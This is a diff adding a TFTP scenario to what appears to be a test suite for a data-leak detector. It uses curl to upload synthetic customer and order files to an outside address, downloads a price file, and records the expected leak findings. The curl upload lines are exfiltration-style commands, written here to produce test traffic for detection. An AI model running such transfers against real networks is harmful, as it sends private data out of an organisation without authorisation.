@@ -48,3 +48,22 @@ def smb_encrypted(net, record):
     record()
     smbclient(net, "put customers.csv", "-m", "SMB3", "--client-protection=encrypt")
     return Facts().blind("smb3", "203.0.113.9", 445, len(sent))
+
+
+@scenario("tftp")
+def tftp(net, record):
+    """curl to tftpd-hpa: a zip in blocks of 512 bytes, a table in blocks of 1,428, and one that is read: each from a new port of the
+    server."""
+    servers.tftp(net, net.outside, "203.0.113.9")
+    packed = net.write("customers.zip", zipped("customers.csv", customers_file(600, 576)))
+    orders = net.write("orders.csv", customers_file(80, 577))
+    net.write("tftp/prices.csv", customers_file(60, 578))
+    curl = ["curl", "-sS", "--max-time", "20"]
+    record()
+    net.office_do(*curl, "-T", packed, "tftp://203.0.113.9/customers.zip")
+    net.office_do(*curl, "--tftp-blksize", "1428", "-T", orders, "tftp://203.0.113.9/orders.csv")
+    net.office_do(*curl, "-o", "prices.csv", "tftp://203.0.113.9/prices.csv")
+    facts = Facts().leak(customers(600, 576), ["WRQ customers.zip", "customers.csv"], "tftp", port=None)
+    facts.leak(customers(80, 577), ["WRQ orders.csv"], "tftp", port=None)
+    return facts.leak(customers(60, 578), ["RRQ prices.csv"], "tftp", source="203.0.113.9", destination="10.20.0.7", port=None,
+                      direction="inbound")
